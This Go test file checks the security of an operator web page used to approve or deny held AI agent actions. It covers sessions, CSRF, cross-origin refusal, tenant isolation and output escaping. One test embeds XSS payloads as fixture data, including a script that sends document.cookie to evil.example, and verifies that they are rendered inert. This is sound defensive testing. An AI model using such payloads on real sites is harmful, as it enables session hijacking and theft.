package triage_test

import (
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"novaos.dev/novaos/gate"
	"novaos.dev/novaos/internal/gatesvc/triage"
)

func TestLoginLogout(t *testing.T) {
	for _, tc := range []struct {
		name       string
		opts       *triage.Options
		tls        bool
		wantSecure bool
	}{
		{name: "plain http", wantSecure: false},
		{name: "tls", tls: true, wantSecure: true},
		{name: "secure option", opts: &triage.Options{Secure: true}, wantSecure: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			hs := newHarness(t, tc.opts)
			b := hs.browser(t)
			b.tls = tc.tls
			if tc.tls {
				b.origin = "https://" + host
			}

			w := b.get("/ui/gate")
			wantStatus(t, w, http.StatusSeeOther)
			if got := w.Header().Get("Location"); got != "/ui/gate/login" {
				t.Fatalf("unauthenticated list redirects to %q, want the login form", got)
			}
			w = b.get("/ui/gate/login")
			wantStatus(t, w, http.StatusOK)
			wantContains(t, w.Body.String(), `id="token"`, `type="password"`, `action="/ui/gate/login"`)

			w = b.post("/ui/gate/login", url.Values{"token": {" " + tokenAcme + "\n"}})
			wantStatus(t, w, http.StatusSeeOther)
			c := b.cookies["novaos_gate_session"]
			switch {
			case c == nil:
				t.Fatal("no session cookie after login")
			case !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.Path != "/ui/gate":
				t.Errorf("session cookie HttpOnly=%v SameSite=%v Path=%q, want HttpOnly, Strict, /ui/gate", c.HttpOnly, c.SameSite, c.Path)
			case c.Secure != tc.wantSecure:
				t.Errorf("session cookie Secure=%v, want %v", c.Secure, tc.wantSecure)
			}

			w = b.get("/ui/gate")
			wantStatus(t, w, http.StatusOK)
			wantContains(t, w.Body.String(), "alice@acme", "tenant acme", `id="logout"`)
			if strings.Contains(w.Body.String(), tokenAcme) {
				t.Error("the list page shows the token")
			}

			w = b.post("/ui/gate/logout", url.Values{"csrf": {b.csrf()}})
			wantStatus(t, w, http.StatusSeeOther)
			if got := w.Header().Get("Location"); got != "/ui/gate/login" {
				t.Errorf("logout redirects to %q, want the login form", got)
			}
			if _, ok := b.cookies["novaos_gate_session"]; ok {
				t.Error("the session cookie survived logout")
			}
			wantStatus(t, b.get("/ui/gate"), http.StatusSeeOther)

			if strings.Contains(hs.logs.String(), tokenAcme) {
				t.Errorf("the log shows the token:\n%s", hs.logs)
			}
		})
	}
}

func TestAuthRefusal(t *testing.T) {
	for _, tc := range []struct {
		name   string
		token  string
		status int
		msg    string
	}{
		{"unknown token", "tok-wrong", http.StatusUnauthorized, "Refused: that token is not an operator token"},
		{"token without the scope", tokenNoScope, http.StatusUnauthorized, "Refused: that token is not an operator token"},
		{"checker quotes the token", tokenQuoted, http.StatusUnauthorized, "Refused: that token is not an operator token"},
		{"checker fails", tokenBroken, http.StatusServiceUnavailable, "could not be checked"},
		{"principal without a tenant", tokenNoTen, http.StatusForbidden, "names no tenant"},
		{"empty", "  ", http.StatusBadRequest, "Paste an operator token"},
		{"too long for a cookie", strings.Repeat("x", 4000), http.StatusBadRequest, "too long"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			hs := newHarness(t, nil)
			b := hs.browser(t)
			w := b.post("/ui/gate/login", url.Values{"token": {tc.token}})
			wantStatus(t, w, tc.status)
			wantContains(t, w.Body.String(), tc.msg, `id="login-error"`)
			if len(b.cookies) != 0 {
				t.Errorf("cookies set on a refused login: %v", b.cookies)
			}
			if strings.TrimSpace(tc.token) != "" {
				if strings.Contains(w.Body.String(), tc.token) {
					t.Error("the refusal repeats the token")
				}
				if strings.Contains(hs.logs.String(), tc.token) {
					t.Errorf("the log shows the token:\n%s", hs.logs)
				}
			}
			if len(hs.op.decideCalls()) != 0 || len(hs.op.lists) != 0 {
				t.Error("the service was called for a refused login")
			}
		})
	}

	t.Run("token revoked after login", func(t *testing.T) {
		hs := newHarness(t, nil)
		b := hs.browser(t)
		b.login(tokenAcme)
		csrf := b.csrf()
		hs.auth.revoke(tokenAcme)
		w := b.post("/ui/gate/actions/s-1/a-held/decide", url.Values{"csrf": {csrf}, "decision": {"approve"}})
		wantStatus(t, w, http.StatusSeeOther)
		if got := w.Header().Get("Location"); got != "/ui/gate/login" {
			t.Errorf("a revoked token's POST goes to %q, want the login form", got)
		}
		if _, ok := b.cookies["novaos_gate_session"]; ok {
			t.Error("the revoked token's cookie was kept")
		}
		if n := len(hs.op.decideCalls()); n != 0 {
			t.Errorf("Decide called %d times with a revoked token", n)
		}
	})

	t.Run("forged cookies", func(t *testing.T) {
		hs := newHarness(t, nil)
		for _, v := range []string{"", "nodot", ".", "abc.", ".dG9r", "abc.!!!", "abc." + "dG9rLXdyb25n"} {
			b := hs.browser(t)
			b.cookies["novaos_gate_session"] = &http.Cookie{Name: "novaos_gate_session", Value: v}
			w := b.get("/ui/gate")
			if w.Code != http.StatusSeeOther {
				t.Errorf("cookie %q: status %d, want a redirect to the login form", v, w.Code)
			}
		}
	})
}

func TestCSRF(t *testing.T) {
	hs := newHarness(t, nil)
	other := hs.browser(t)
	other.login(tokenAcme) // the same operator in another browser: another login value
	otherCSRF := other.csrf()

	b := hs.browser(t)
	b.login(tokenAcme)
	good := b.csrf()
	if good == otherCSRF {
		t.Fatal("two logins share a CSRF token")
	}
	for _, tc := range []struct {
		name   string
		csrf   []string
		status int
	}{
		{"missing", nil, http.StatusForbidden},
		{"empty", []string{""}, http.StatusForbidden},
		{"wrong", []string{"AAAA"}, http.StatusForbidden},
		{"another login's", []string{otherCSRF}, http.StatusForbidden},
		{"good", []string{good}, http.StatusSeeOther},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := len(hs.op.decideCalls())
			f := url.Values{"decision": {"deny"}}
			if tc.csrf != nil {
				f["csrf"] = tc.csrf
			}
			w := b.post("/ui/gate/actions/s-1/a-held/decide", f)
			wantStatus(t, w, tc.status)
			called := len(hs.op.decideCalls()) - before
			if want := tc.status == http.StatusSeeOther; (called == 1) != want {
				t.Errorf("Decide called %d times, want %v", called, want)
			}
			if tc.status == http.StatusForbidden && !strings.Contains(w.Body.String(), "CSRF") {
				t.Errorf("refusal %q does not name the CSRF token", w.Body)
			}
		})
	}

	t.Run("logout needs it", func(t *testing.T) {
		w := b.post("/ui/gate/logout", url.Values{})
		wantStatus(t, w, http.StatusForbidden)
		if _, ok := b.cookies["novaos_gate_session"]; !ok {
			t.Error("a logout without the CSRF token signed the operator out")
		}
	})
}

func TestCrossOrigin(t *testing.T) {
	for _, tc := range []struct {
		name   string
		path   string
		origin string
		hdr    map[string]string
		status int
	}{
		{name: "other site", path: "decide", origin: "http://evil.example", status: http.StatusForbidden},
		{name: "other port", path: "decide", origin: "http://" + host + ":8443", status: http.StatusForbidden},
		{name: "subdomain", path: "decide", origin: "http://x." + host, status: http.StatusForbidden},
		{name: "opaque origin", path: "decide", origin: "null", status: http.StatusForbidden},
		{name: "not an origin", path: "decide", origin: "http://" + host + "/path", status: http.StatusForbidden},
		{name: "sec-fetch cross-site", path: "decide", hdr: map[string]string{"Sec-Fetch-Site": "cross-site"}, status: http.StatusForbidden},
		{name: "sec-fetch same-site", path: "decide", hdr: map[string]string{"Sec-Fetch-Site": "same-site"}, status: http.StatusForbidden},
		{name: "login from another site", path: "login", origin: "http://evil.example", status: http.StatusForbidden},
		{name: "same origin", path: "decide", origin: "http://" + host, status: http.StatusSeeOther},
		{name: "same origin, default port", path: "decide", origin: "http://" + strings.ToUpper(host) + ":80", status: http.StatusSeeOther},
		{name: "https origin behind a proxy", path: "decide", origin: "https://" + host, status: http.StatusSeeOther},
		{name: "sec-fetch same-origin", path: "decide", hdr: map[string]string{"Sec-Fetch-Site": "same-origin"}, status: http.StatusSeeOther},
		{name: "no origin (not a browser)", path: "decide", status: http.StatusSeeOther},
	} {
		t.Run(tc.name, func(t *testing.T) {
			hs := newHarness(t, nil)
			b := hs.browser(t)
			b.login(tokenAcme)
			csrf := b.csrf()
			b.origin = tc.origin
			var w interface{ Result() *http.Response }
			target, form := "/ui/gate/actions/s-1/a-held/decide", url.Values{"csrf": {csrf}, "decision": {"approve"}}
			if tc.path == "login" {
				target, form = "/ui/gate/login", url.Values{"token": {tokenGlobex}}
			}
			rec := b.do(http.MethodPost, target, form, tc.hdr)
			w = rec
			if got := w.Result().StatusCode; got != tc.status {
				t.Fatalf("status %d, want %d\n%s", got, tc.status, rec.Body)
			}
			called := len(hs.op.decideCalls())
			if tc.status == http.StatusForbidden {
				if called != 0 {
					t.Errorf("Decide called %d times on a cross-site POST", called)
				}
				if tc.path == "login" && b.cookies["novaos_gate_session"] == nil {
					t.Error("the refused login dropped the existing session")
				}
				if !strings.Contains(rec.Body.String(), "not sent from the operator page") {
					t.Errorf("refusal %q does not say why", rec.Body)
				}
			} else if called != 1 {
				t.Errorf("Decide called %d times, want 1", called)
			}
		})
	}
}

func TestList(t *testing.T) {
	t.Run("tenant operator", func(t *testing.T) {
		hs := newHarness(t, nil)
		b := hs.browser(t)
		b.login(tokenAcme)
		w := b.get("/ui/gate")
		wantStatus(t, w, http.StatusOK)
		body := w.Body.String()
		wantContains(t, body,
			"PAUSED", "UNCONFIRMED", "pay_invoice", "issue_refund", "ap-agent", "cs-agent",
			"s-1", "a-held", "s-2", "a-unconf",
			`<td class="left">1m0s</td>`, // 5-minute hold submitted 4 minutes ago
			"<code>ap-bank-change</code>",
			`href="/ui/gate/actions/s-1/a-held"`,
			`<meta http-equiv="refresh" content="30">`,
		)
		if strings.Contains(body, "g-held") || strings.Contains(body, "<th>Tenant</th>") {
			t.Error("a tenant operator sees another tenant's action or the tenant column")
		}
		// Oldest first: the unconfirmed action was submitted earlier.
		if strings.Index(body, "a-unconf") > strings.Index(body, "a-held") {
			t.Error("the list is not oldest first")
		}
		if got := hs.op.lists; !slices.Equal(got, []string{"acme"}) {
			t.Errorf("List tenants %q, want [acme]", got)
		}
	})

	t.Run("admin sees every tenant", func(t *testing.T) {
		hs := newHarness(t, nil)
		b := hs.browser(t)
		b.login(tokenAdmin)
		body := b.get("/ui/gate").Body.String()
		wantContains(t, body, "<th>Tenant</th>", `<td class="tenant">globex</td>`, `<td class="tenant">acme</td>`,
			"g-held", "indefinite", `href="/ui/gate/actions/s-9/g-held?tenant=globex"`, "admin · every tenant")
		if got := hs.op.lists; len(got) == 0 || got[0] != "" {
			t.Errorf("List tenants %q, want every tenant (\"\")", got)
		}
	})

	t.Run("paging", func(t *testing.T) {
		hs := newHarness(t, &triage.Options{PageSize: 1})
		b := hs.browser(t)
		b.login(tokenAcme)
		body := b.get("/ui/gate").Body.String()
		wantContains(t, body, "a-unconf", `id="next" href="/ui/gate?after=s-2%2Fa-unconf"`)
		if strings.Contains(body, "a-held") {
			t.Error("page 1 of size 1 shows two actions")
		}
		body = b.get("/ui/gate?after=s-2%2fa-unconf").Body.String()
		wantContains(t, body, "a-held", `id="first"`)
		if got := hs.op.afters; !slices.Equal(got, []string{"", "s-2/a-unconf"}) {
			t.Errorf("List after %q", got)
		}
	})

	t.Run("empty", func(t *testing.T) {
		hs := newHarness(t, nil)
		b := hs.browser(t)
		b.login(tokenGlobex)
		hs.op.mu.Lock()
		hs.op.actions = nil
		hs.op.mu.Unlock()
		wantContains(t, b.get("/ui/gate").Body.String(), `id="empty"`, "Nothing is waiting")
	})

	t.Run("service error", func(t *testing.T) {
		hs := newHarness(t, nil)
		hs.op.listErr = errors.New("store down: secret-detail")
		b := hs.browser(t)
		b.login(tokenAcme)
		w := b.get("/ui/gate")
		wantStatus(t, w, http.StatusInternalServerError)
		if strings.Contains(w.Body.String(), "secret-detail") {
			t.Error("the page shows the service's error detail")
		}
		if !strings.Contains(hs.logs.String(), "secret-detail") {
			t.Error("the service's error is not logged")
		}
	})
}

func TestDetail(t *testing.T) {
	hs := newHarness(t, nil)
	b := hs.browser(t)
	b.login(tokenAcme)

	w := b.get("/ui/gate/actions/s-1/a-held")
	wantStatus(t, w, http.StatusOK)
	body := w.Body.String()
	wantContains(t, body,
		`id="state" class="state held">PAUSED`,
		// context, pretty-printed
		"&#34;vendor_id&#34;: &#34;V-17&#34;", "&#34;payee_account&#34;: &#34;DE89370400440532013000&#34;",
		// evidence with provenance
		"<code>get_vendor</code>", "call-aa1", "2026-12-02 09:57:00.000Z", "&#34;vendor_id&#34;: &#34;V-17&#34;",
		"&#34;bank_changed&#34;: &#34;2026-11-30&#34;", "cut from 90210 bytes", "po service timed out",
		"<dt>Seq</dt><dd>3</dd>",
		// reasoning
		"Invoice matches the PO; paying before the discount window closes.",
		// rules and aggregates
		"<code>ap-bank-change</code>", "Hold payments within 7 days of a bank detail change.",
		"<code>ap-velocity</code>", "no such field: agg.vendor_day",
		"<code>amount_vendor_7d</code></td><td>31000.5", "<code>payments_vendor_7d</code></td><td>3",
		"version 7", "sha256:rules7",
		// judge
		"judge-mini (prompt p3)", "Bank details changed two days ago.", "<code>bank_change_recent</code>, <code>amount_high</code>",
		"rules 42µs, judge 1.8ms, total 1.9ms",
		// fingerprint, hold
		"fp-5d41402abc4b2a76", "jcs-sha256-v1", "<dd>5m0s</dd>", "2026-12-02 10:01:00.000Z", `id="time-left">1m0s`,
		// forms
		`id="approve"`, `id="deny"`, `action="/ui/gate/actions/s-1/a-held/decide"`,
	)
	if strings.Contains(body, "confirm_executed") {
		t.Error("a held action offers the confirm buttons")
	}

	body = b.get("/ui/gate/actions/s-2/a-unconf").Body.String()
	wantContains(t, body, "UNCONFIRMED", `id="confirm_executed"`, `id="confirm_not_executed"`,
		"<dt>Fencing token</dt><dd>3</dd>", "2026-12-02 09:50:01.000Z", "No reads were buffered", "No decision record was kept")
	if strings.Contains(body, `id="approve"`) {
		t.Error("an unconfirmed action offers approve")
	}

	t.Run("shadow and judge failure", func(t *testing.T) {
		rec := heldAction("acme", "s-5", "a-shadow", t0)
		rec.Decision = []byte(`{"rule_set_version":2,"shadow":true,"would":"kill","rules":"pass","rules_us":1,"total_us":2,` +
			`"judge":{"model":"m","prompt_version":"p","failure":"judge timed out"}}`)
		hs.op.add(rec)
		body := b.get("/ui/gate/actions/s-5/a-shadow").Body.String()
		wantContains(t, body, `id="shadow"`, "would have decided <code>kill</code>", "judge timed out (failed closed)")
	})

	t.Run("undecodable action still renders", func(t *testing.T) {
		rec := heldAction("acme", "s-6", "a-bad", t0)
		rec.Action = []byte(`{"action_id":"a-bad","context_type":"ap","context":{"vendor_id":"V","bogus":1},"evidence":[],"reasoning":"trust me"}`)
		rec.Decision = []byte(`{"rules": 12`)
		hs.op.add(rec)
		w := b.get("/ui/gate/actions/s-6/a-bad")
		wantStatus(t, w, http.StatusOK)
		wantContains(t, w.Body.String(), `id="strict-error"`, "trust me", "&#34;bogus&#34;: 1", "The decision record does not decode")

		rec = heldAction("acme", "s-7", "a-raw", t0)
		rec.Action = []byte(`not json at all`)
		hs.op.add(rec)
		w = b.get("/ui/gate/actions/s-7/a-raw")
		wantStatus(t, w, http.StatusOK)
		wantContains(t, w.Body.String(), `id="raw-error"`, "not json at all", `id="approve"`)
	})

	t.Run("not found and other tenants", func(t *testing.T) {
		for _, p := range []string{"/ui/gate/actions/s-9/g-held", "/ui/gate/actions/s-1/nope"} {
			w := b.get(p)
			wantStatus(t, w, http.StatusNotFound)
			wantContains(t, w.Body.String(), "No such action")
		}
	})

	t.Run("admin names the tenant", func(t *testing.T) {
		a := hs.browser(t)
		a.login(tokenAdmin)
		body := a.get("/ui/gate/actions/s-9/g-held?tenant=globex").Body.String()
		wantContains(t, body, `name="tenant" value="globex"`, "<dd>globex</dd>", "never")
	})

	t.Run("ids with slashes", func(t *testing.T) {
		hs.op.add(heldAction("acme", "s/x", "a?b/c", t0))
		body := b.get("/ui/gate").Body.String()
		wantContains(t, body, `href="/ui/gate/actions/s%2Fx/a%3Fb%2Fc"`)
		w := b.get("/ui/gate/actions/s%2fx/a%3fb%2fc")
		wantStatus(t, w, http.StatusOK)
		wantContains(t, w.Body.String(), `id="action-id">a?b/c<`)
	})
}

// TestEvidenceIsInert: evidence and reasoning are attacker-controlled
// text; the page escapes it and allows no script anyway.
func TestEvidenceIsInert(t *testing.T) {
	hs := newHarness(t, nil)
	rec := heldAction("acme", "s-x", `a"><script>alert(3)</script>`, t0)
	rec.ActionType = `<img src=x onerror=alert(4)>`
	rec.Action = []byte(`{"action_id":"x","context_type":"generic","context":{"record_id":"</pre><script>alert(5)</script>"},` +
		`"evidence":[{"tool":"<script>alert(1)</script>","result":"<script>alert(2)</script>",` +
		`"error":"","provenance":{"seq":1,"call_id":"<b>c</b>","observed_at":"2026-12-02T09:00:00Z"}}],` +
		`"reasoning":"</pre><script>document.location='http://evil.example/'+document.cookie</script>"}`)
	hs.op.add(rec)
	b := hs.browser(t)
	b.login(tokenAcme)
	for _, p := range []string{"/ui/gate", "/ui/gate/actions/s-x/" + url.PathEscape(rec.ActionID)} {
		w := b.get(p)
		wantStatus(t, w, http.StatusOK)
		body := w.Body.String()
		if strings.Contains(strings.ToLower(body), "<script") || strings.Contains(body, "<img") || strings.Contains(body, "<b>c") {
			t.Errorf("%s renders markup from the action:\n%s", p, body)
		}
		if !strings.Contains(body, "&lt;script&gt;") && !strings.Contains(body, "&lt;img") {
			t.Errorf("%s lacks the escaped text", p)
		}
		csp := w.Header().Get("Content-Security-Policy")
		if !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
			t.Errorf("%s: CSP %q allows script", p, csp)
		}
	}
}

func TestDecide(t *testing.T) {
	for _, tc := range []struct {
		name             string
		token            string
		session, action  string
		decision         gate.OperatorDecisionKind
		note, formTenant string
		want             decideCall
		flash            string
	}{
		{name: "approve", token: tokenAcme, session: "s-1", action: "a-held", decision: gate.DecisionApprove, note: "invoice checked",
			want:  decideCall{Tenant: "acme", Session: "s-1", Action: "a-held", Actor: "alice@acme", Decision: gate.OperatorDecision{Decision: gate.DecisionApprove, Note: "invoice checked"}},
			flash: "Action a-held approved."},
		{name: "deny", token: tokenAcme, session: "s-1", action: "a-held", decision: gate.DecisionDeny,
			want:  decideCall{Tenant: "acme", Session: "s-1", Action: "a-held", Actor: "alice@acme", Decision: gate.OperatorDecision{Decision: gate.DecisionDeny}},
			flash: "Action a-held denied."},
		{name: "confirm executed", token: tokenAcme, session: "s-2", action: "a-unconf", decision: gate.DecisionConfirmExecuted, note: "refund is in the ledger",
			want:  decideCall{Tenant: "acme", Session: "s-2", Action: "a-unconf", Actor: "alice@acme", Decision: gate.OperatorDecision{Decision: gate.DecisionConfirmExecuted, Note: "refund is in the ledger"}},
			flash: "Action a-unconf confirmed as executed."},
		{name: "confirm not executed", token: tokenAcme, session: "s-2", action: "a-unconf", decision: gate.DecisionConfirmNotExecuted,
			want:  decideCall{Tenant: "acme", Session: "s-2", Action: "a-unconf", Actor: "alice@acme", Decision: gate.OperatorDecision{Decision: gate.DecisionConfirmNotExecuted}},
			flash: "Action a-unconf confirmed as not executed."},
		{name: "admin names the tenant", token: tokenAdmin, session: "s-9", action: "g-held", decision: gate.DecisionApprove, formTenant: "globex",
			want:  decideCall{Tenant: "globex", Session: "s-9", Action: "g-held", Actor: "admin", Decision: gate.OperatorDecision{Decision: gate.DecisionApprove}},
			flash: "Action g-held approved."},
		{name: "a tenant operator cannot name another tenant", token: tokenAcme, session: "s-9", action: "g-held", decision: gate.DecisionApprove, formTenant: "globex",
			want:  decideCall{Tenant: "acme", Session: "s-9", Action: "g-held", Actor: "alice@acme", Decision: gate.OperatorDecision{Decision: gate.DecisionApprove}},
			flash: "Not recorded: action g-held was not found."},
	} {
		t.Run(tc.name, func(t *testing.T) {
			hs := newHarness(t, nil)
			b := hs.browser(t)
			b.login(tc.token)
			f := url.Values{"csrf": {b.csrf()}, "decision": {string(tc.decision)}, "note": {tc.note}}
			if tc.formTenant != "" {
				f.Set("tenant", tc.formTenant)
			}
			w := b.post("/ui/gate/actions/"+tc.session+"/"+tc.action+"/decide", f)
			wantStatus(t, w, http.StatusSeeOther)
			if got := w.Header().Get("Location"); got != "/ui/gate" {
				t.Errorf("redirect to %q, want the list", got)
			}
			calls := hs.op.decideCalls()
			if len(calls) != 1 || calls[0] != tc.want {
				t.Errorf("Decide calls %+v, want [%+v]", calls, tc.want)
			}
			w = b.get("/ui/gate")
			wantContains(t, w.Body.String(), `id="flash"`, tc.flash)
			// The message shows once.
			if strings.Contains(b.get("/ui/gate").Body.String(), `id="flash"`) {
				t.Error("the flash message shows twice")
			}
		})
	}
}

func TestDecideErrors(t *testing.T) {
	for _, tc := range []struct {
		name     string
		err      error
		form     url.Values
		status   int
		flash    string
		noCall   bool
		wantLogs string
	}{
		{name: "no longer held", err: fmt.Errorf("gate: decide: %w", gate.ErrConflict),
			status: http.StatusSeeOther, flash: "Not recorded: action a-held can no longer be approved"},
		{name: "not found", err: fmt.Errorf("gate: decide: %w", gate.ErrNotFound),
			status: http.StatusSeeOther, flash: "Not recorded: action a-held was not found."},
		{name: "service failure", err: errors.New("store: disk full"),
			status: http.StatusSeeOther, flash: "the decision on a-held failed (see the server log)", wantLogs: "disk full"},
		{name: "note too long", form: url.Values{"note": {strings.Repeat("n", 4097)}},
			status: http.StatusSeeOther, flash: "longer than 4 KiB", noCall: true},
		{name: "unknown decision", form: url.Values{"decision": {"execute"}}, status: http.StatusBadRequest, noCall: true},
		{name: "body too large", form: url.Values{"note": {strings.Repeat("n", 70<<10)}}, status: http.StatusRequestEntityTooLarge, noCall: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			hs := newHarness(t, nil)
			hs.op.decideErr = tc.err
			b := hs.browser(t)
			b.login(tokenAcme)
			f := url.Values{"csrf": {b.csrf()}, "decision": {"approve"}}
			for k, v := range tc.form {
				f[k] = v
			}
			w := b.post("/ui/gate/actions/s-1/a-held/decide", f)
			wantStatus(t, w, tc.status)
			if n := len(hs.op.decideCalls()); (n == 0) != tc.noCall {
				t.Errorf("Decide called %d times", n)
			}
			if tc.flash != "" {
				body := b.get("/ui/gate").Body.String()
				wantContains(t, body, `class="flash error"`, tc.flash)
			}
			if tc.wantLogs != "" && !strings.Contains(hs.logs.String(), tc.wantLogs) {
				t.Errorf("the log lacks %q:\n%s", tc.wantLogs, hs.logs)
			}
		})
	}

	t.Run("conflict through the fake's own state", func(t *testing.T) {
		hs := newHarness(t, nil)
		b := hs.browser(t)
		b.login(tokenAcme)
		csrf := b.csrf()
		f := url.Values{"csrf": {csrf}, "decision": {"approve"}}
		wantStatus(t, b.post("/ui/gate/actions/s-1/a-held/decide", f), http.StatusSeeOther)
		b.get("/ui/gate")
		f.Set("decision", "deny")
		wantStatus(t, b.post("/ui/gate/actions/s-1/a-held/decide", f), http.StatusSeeOther)
		wantContains(t, b.get("/ui/gate").Body.String(), "can no longer be denied")
	})
}

func TestRouting(t *testing.T) {
	hs := newHarness(t, nil)
	b := hs.browser(t)
	b.login(tokenAcme)
	for _, tc := range []struct {
		method, path string
		status       int
		ctype        string
	}{
		{http.MethodGet, "/ui/gate/static/triage.css", http.StatusOK, "text/css; charset=utf-8"},
		{http.MethodHead, "/ui/gate", http.StatusOK, "text/html; charset=utf-8"},
		{http.MethodGet, "/ui/gate/", http.StatusOK, "text/html; charset=utf-8"},
		{http.MethodGet, "/ui/gateway", http.StatusNotFound, "text/plain; charset=utf-8"},
		{http.MethodGet, "/ui/gate/nothing", http.StatusNotFound, "text/plain; charset=utf-8"},
		{http.MethodGet, "/ui/gate/actions/s-1", http.StatusNotFound, "text/plain; charset=utf-8"},
		{http.MethodGet, "/ui/gate/actions/s-1/a-held/decide", http.StatusNotFound, "text/plain; charset=utf-8"},
		{http.MethodGet, "/ui/gate/logout", http.StatusNotFound, "text/plain; charset=utf-8"},
		{http.MethodDelete, "/ui/gate", http.StatusMethodNotAllowed, "text/plain; charset=utf-8"},
	} {
		w := b.do(tc.method, tc.path, nil, nil)
		if w.Code != tc.status || w.Header().Get("Content-Type") != tc.ctype {
			t.Errorf("%s %s: %d %q, want %d %q", tc.method, tc.path, w.Code, w.Header().Get("Content-Type"), tc.status, tc.ctype)
		}
		for _, h := range []string{"Content-Security-Policy", "X-Frame-Options", "X-Content-Type-Options", "Referrer-Policy"} {
			if w.Header().Get(h) == "" {
				t.Errorf("%s %s: no %s", tc.method, tc.path, h)
			}
		}
	}
}
